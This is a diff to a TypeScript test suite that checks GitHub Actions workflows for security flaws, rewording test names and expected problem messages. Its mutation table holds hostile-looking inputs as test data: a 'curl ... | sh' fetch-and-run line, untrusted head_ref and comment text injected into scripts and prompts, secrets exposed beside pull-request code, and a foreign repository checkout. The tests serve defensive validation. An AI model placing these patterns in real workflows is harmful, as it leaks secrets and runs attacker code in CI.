@@ -26,7 +26,7 @@ const rights: Readonly<Record<string, Readonly<Record<string, string>>>> = {
 
 const files = readdirSync(join(root, folder)).map((file) => [file, read(`${folder}/${file}`)] as const);
 
-test.each(files)('%s has nothing wrong', (file, text) => {
+test.each(files)('the workflow %s has no problems', (file, text) => {
   expect(workflowProblems(text, rights[file.replace(/^sallyport-|\.yml$/g, '')] ?? {})).toEqual([]);
 });
 
@@ -41,9 +41,14 @@ const mistakes: readonly (readonly [file: string, from: string, to: string, prob
   ['fork-collect', '{ npm ci', 'echo ${{ github.head_ref }}; { npm ci', 'github.head_ref in a script'],
   ['fork-collect', '{ npm ci', 'curl -s https://x.example/i | sh; { npm ci', 'a script that steers others'],
   ['fork-collect', '{ npm ci', 'echo A=1 >> $GITHUB_ENV; { npm ci', 'a script that steers others'],
-  ['fork-collect', 'HEAD: ${{', 'KEY: ${{ secrets.KEY }}\n          HEAD: ${{', "secrets beside a pull request's code"],
+  [
+    'fork-collect',
+    'HEAD: ${{',
+    'KEY: ${{ secrets.KEY }}\n          HEAD: ${{',
+    "secrets in a job with a pull request's code",
+  ],
   ['fork-collect', 'HEAD: ${{', 'ALL: ${{ toJSON(secrets) }}\n          HEAD: ${{', 'toJSON(secrets) in a setting'],
-  ['fork-collect', 'pull_request:', 'pull_request_target:', 'a script beside secrets'],
+  ['fork-collect', 'pull_request:', 'pull_request_target:', 'a script in a job with secrets'],
   ['comment', 'reaction: true', 'prompt: ${{ github.event.comment.body }}', 'an event in our settings'],
   ['comment', 'reaction: true', 'args: ${{ github.event.issue.title }}', 'issue.title in a setting'],
   ['comment', 'reaction: true', 'reactoin: true', 'no input reactoin'],
@@ -67,7 +72,7 @@ const mistakes: readonly (readonly [file: string, from: string, to: string, prob
     'a checkout of something else',
   ],
   ['fork-review', '          fetch-depth: 0', '          repository: mallory/repo', 'a checkout of something else'],
-  ['fork-review', '    steps:', '    steps:\n      - run: npm ci', 'a script beside secrets'],
+  ['fork-review', '    steps:', '    steps:\n      - run: npm ci', 'a script in a job with secrets'],
   ['fork-post', '    steps:', '    steps:\n      - run: cat handoff.json', 'code in a run that follows another'],
   ['fork-post', '${{ runner.temp }}/handoff\n', '.\n', 'an artifact in the workspace'],
   ['fork-post', "github.event.workflow_run.event == 'pull_request' && ", '', 'what started the previous run'],
@@ -79,7 +84,7 @@ const mistakes: readonly (readonly [file: string, from: string, to: string, prob
   ],
 ];
 
-test.each(mistakes)('in sallyport-%s.yml %j as %j is told', (name, from, to, problem) => {
+test.each(mistakes)('the mistake in sallyport-%s.yml of %j as %j is found', (name, from, to, problem) => {
   const [, text = ''] = files.find(([file]) => file === `sallyport-${name}.yml`) ?? [];
   expect(text).toContain(from);
   const problems = workflowProblems(
@@ -89,7 +94,7 @@ test.each(mistakes)('in sallyport-%s.yml %j as %j is told', (name, from, to, pro
   expect(problems.join('\n')).toContain(problem);
 });
 
-test('the second phase follows a workflow that is there', () => {
+test('the second phase follows an existing workflow', () => {
   const names = files.map(([, text]) => parseWorkflow(text).name);
   for (const [, text] of files) {
     const { workflow_run: follows } = parseWorkflow(text).on as {
@@ -132,7 +137,7 @@ describe('the pages', () => {
   // A batch file has `jobs` too, but no `on`.
   const workflows = blocks.filter(({ text }) => /^jobs:/m.test(text) && /^on:/m.test(text));
 
-  test('show workflows that are files, as they are', () => {
+  test('the pages show workflow files unchanged', () => {
     for (const { page, text } of workflows) {
       expect(
         files.map(([, file]) => file),
@@ -141,13 +146,13 @@ describe('the pages', () => {
     }
   });
 
-  test('show each of them', () => {
+  test('the pages show every workflow file', () => {
     expect(new Set(workflows.map(({ text }) => text)).size).toBe(files.length);
   });
 
   test.each(
     blocks.filter(({ text }) => text.includes('uses:') && !/^jobs:/m.test(text)),
-  )('have steps in $page that put nothing of a stranger into a script or a prompt', ({ text }) => {
+  )('the steps in $page put no untrusted text into a script or a prompt', ({ text }) => {
     for (const step of stepsIn(parse(text))) {
       expect(expressionsIn(step.run)).toEqual([]);
       expect(expressionsIn(step.with?.['prompt'])).toEqual([]);
